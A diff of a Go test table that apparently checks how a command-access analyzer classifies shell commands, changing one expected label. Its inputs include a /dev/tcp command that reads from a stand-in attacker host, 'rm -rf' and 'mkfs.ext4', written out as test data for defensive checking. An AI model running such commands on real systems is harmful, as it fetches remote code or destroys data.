@@ -467,7 +467,7 @@ func TestAccess(t *testing.T) {
 		{"/usr/bin/cat x", "read /proj/x"},
 		{"/tmp/cat x", "execute /tmp/cat read /proj/x"},
 		{"bash < /dev/tcp/evil.example/44", "network evil.example> unknown ?"},
-		{"docker exec c rm -rf /x", "unknown ? delete ?r"},
+		{"docker exec c rm -rf /x", "unknown ? network  delete ?r"},
 		{"frobnicate x", "unknown ?"},
 		{"mkfs.ext4 /dev/sdb1", "unknown ?"},
 	}
